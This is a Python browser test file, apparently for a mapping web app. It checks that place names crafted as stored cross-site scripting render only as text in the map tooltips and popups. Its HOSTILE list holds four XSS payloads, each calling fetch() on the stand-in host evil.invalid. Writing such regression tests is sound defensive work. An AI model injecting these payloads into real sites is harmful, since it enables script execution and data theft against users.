"""Issue #28, stored script on maps, in a real browser: places named to run script are shown
on the Networks page's corridors and the Map's place icons, and nothing runs.

Every place of the demo is renamed, for this module only, to one of the hostile names
below (restored afterwards), then the app is started and opened in headless Chromium
(the fixtures of ``tests/test_browser.py``: offline but for localhost). A name that ran
would fetch from ``evil.invalid`` (the guard records any request beyond localhost) or open
a dialog (recorded); the tooltips and popups are opened by pointing at the corridors and
icons, and must show the names as text.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from conftest import running_app
from playwright.sync_api import Browser, Page
from playwright.sync_api import TimeoutError as PlaywrightTimeout
from test_browser import MAP_FRAME, browser, fresh_page, outside, wait_for_map  # noqa: F401

from geo.store import db

pytestmark = pytest.mark.browser

HOSTILE = [
    "${fetch('http://evil.invalid/template')}",
    "<img src=x onerror=\"fetch('http://evil.invalid/img');alert(1)\">",
    "`;fetch('http://evil.invalid/backtick');`",
    "</script><script>fetch('http://evil.invalid/script')</script>",
]


@pytest.fixture(scope="module")
def hostile_app(settings) -> Iterator[str]:
    """The app, over the test database with every place renamed to a hostile name."""
    with db.connect("superuser", settings, autocommit=True) as conn:
        before = conn.execute("SELECT place_id, name FROM place").fetchall()
        with conn.transaction():
            for k, (place_id, _) in enumerate(before):
                conn.execute("UPDATE place SET name = %s WHERE place_id = %s",
                             (f"{HOSTILE[k % len(HOSTILE)]} {k}", place_id))
    try:
        with running_app() as url:
            yield url
    finally:
        with db.connect("superuser", settings, autocommit=True) as conn, conn.transaction():
            for place_id, name in before:
                conn.execute("UPDATE place SET name = %s WHERE place_id = %s", (name, place_id))


def _watch_dialogs(page: Page) -> list[str]:
    seen: list[str] = []

    def on_dialog(dialog) -> None:  # type: ignore[no-untyped-def]
        seen.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    return seen


def _no_script_ran(page: Page, dialogs: list[str]) -> None:
    frame = page.frame_locator(MAP_FRAME)
    assert dialogs == []
    assert frame.locator("img[src='x']").count() == 0
    assert frame.locator("script:text('evil.invalid')").count() == 0


def test_hostile_place_names_on_the_networks_corridors_run_nothing(
        hostile_app: str, browser: Browser, outside: list[str]) -> None:  # noqa: F811
    page = fresh_page(browser, outside, viewport={"width": 1400, "height": 1400})
    dialogs = _watch_dialogs(page)
    page.goto(f"{hostile_app}/networks?role=analyst")
    page.get_by_role("heading", name="Corridors").wait_for(timeout=90_000)
    frame = page.frame_locator(MAP_FRAME)
    lines = frame.locator("path.leaflet-interactive")
    lines.first.wait_for(timeout=90_000)
    shown = []
    for k in range(min(lines.count(), 6)):  # each corridor's tooltip, opened by pointing
        lines.nth(k).hover(force=True)
        tip = frame.locator(".leaflet-tooltip").last
        try:
            tip.wait_for(timeout=5_000)
            shown.append(tip.inner_text())
        except PlaywrightTimeout:  # a line hidden under another: the next one
            continue
    assert shown, "no corridor tooltip opened"
    assert any(h[:20] in text for text in shown for h in HOSTILE), shown  # names, as text
    _no_script_ran(page, dialogs)
    page.context.close()


def test_hostile_place_names_on_the_map_run_nothing(
        hostile_app: str, browser: Browser, outside: list[str]) -> None:  # noqa: F811
    page = fresh_page(browser, outside, viewport={"width": 1400, "height": 1000})
    dialogs = _watch_dialogs(page)
    page.goto(f"{hostile_app}/?role=analyst")
    wait_for_map(page)
    frame = page.frame_locator(MAP_FRAME)
    icons = frame.locator(".place-icon")
    icons.first.wait_for(timeout=60_000)
    area = page.locator(MAP_FRAME).bounding_box()
    assert area is not None
    texts: list[str] = []
    for k in range(icons.count()):  # icons in view: a tooltip by pointing, a popup by click
        box = icons.nth(k).bounding_box()
        if box is None or not (area["x"] + 40 < box["x"] < area["x"] + area["width"] - 60
                               and area["y"] + 40 < box["y"] < area["y"] + area["height"] - 60):
            continue
        x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
        page.mouse.move(x, y)
        tip = frame.locator(".leaflet-tooltip")
        try:
            tip.last.wait_for(timeout=3_000)
            texts.append(tip.last.inner_text())
        except PlaywrightTimeout:  # an icon under another
            continue
        page.mouse.click(x, y)
        popup = frame.locator(".ctx-popup")
        try:
            popup.last.wait_for(timeout=5_000)
            texts.append(popup.last.inner_text())
            break
        except PlaywrightTimeout:  # the click fell on the map: the next icon
            continue
    assert len(texts) >= 2, texts  # a tooltip and a popup
    assert any(h[:20] in t for t in texts for h in HOSTILE), texts
    _no_script_ran(page, dialogs)
    page.context.close()
